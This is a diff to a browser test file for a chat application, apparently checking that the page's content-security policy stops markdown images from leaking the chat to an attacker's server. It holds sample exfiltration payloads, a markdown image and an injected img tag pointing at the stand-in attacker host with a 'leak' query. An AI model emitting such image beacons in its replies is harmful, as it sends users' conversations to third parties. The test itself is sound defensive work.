@@ -70,6 +70,11 @@ def test_a_markdown_image_cannot_carry_the_chat_to_another_server(page_factory, 
         violations = csp_violations(page)
         send(page, f"Summarise this. ![x]({attacker}/pixel.png?leak=1)")
         finished_replies(page, 1)  # the chat still streams its reply
+        # A typed message is shown as typed: its image stays text.
+        assert page.locator(f'img[src^="{attacker}"]').count() == 0
+        # A reply's markdown is rendered, so a reply could name one: the policy stops the fetch.
+        page.evaluate("url => { const i = document.createElement('img'); i.src = url; "
+                      "document.body.appendChild(i); }", f"{attacker}/pixel.png?leak=2")
         page.wait_for_timeout(1000)
         assert asked == [], f"the browser fetched {asked} from the attacker's server"
     assert violations and all("img-src" in v for v in violations), violations
